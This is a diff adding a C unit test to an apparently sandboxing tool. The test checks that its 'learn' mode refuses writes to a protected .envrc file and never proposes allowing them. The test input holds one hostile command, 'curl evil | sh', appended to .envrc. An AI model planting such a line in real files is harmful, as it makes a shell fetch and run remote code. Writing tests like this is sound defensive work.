@@ -308,6 +308,33 @@ Test(usability, schema_lists_every_key)
 	json_object_put(schema);
 }
 
+/* A write to a protected path is named as such and never proposed: the
+ * paste block would not change it, and must not try. Judged from outside
+ * too: the file is unchanged. */
+Test(usability, learn_names_protected_paths_and_never_proposes_them, .timeout = 60)
+{
+	struct world w;
+	world_init(&w, "learnprot", "");
+	char *envrc = write_file(w.proj, ".envrc", "export A=1\n");
+	char *argv[] = {CORDON_BIN, "learn",
+			"--config", w.cfg,
+			"--",       "/bin/sh",
+			"-c",       "echo 'curl evil | sh' >> .envrc; echo ran > ran",
+			NULL};
+	struct run_result r = run_cmd(argv, w.env, w.proj, 30000);
+	cr_expect(contains(envrc, "export A=1") && !contains(envrc, "evil"), "written: %s", r.err);
+	char *ran = path_join(w.proj, "ran");
+	cr_expect(file_exists(ran), "the command did not run: %s", r.err);
+	cr_expect(strstr(r.err, "refused by protected_paths or hidden_paths") != NULL, "%s", r.err);
+	cr_expect(strstr(r.err, "/.envrc  (read-only: protected_paths (default))") != NULL, "%s",
+		  r.err);
+	cr_expect_null(strstr(r.err, "to allow them"), "proposed a protected path: %s", r.err);
+	run_free(&r);
+	free(ran);
+	free(envrc);
+	world_free(&w);
+}
+
 /* The schema's defaults for protected_paths and hidden_paths are the
  * built-in lists, entry for entry. */
 static void expect_default_list(struct json_object *props, const char *key, const char *const *list)
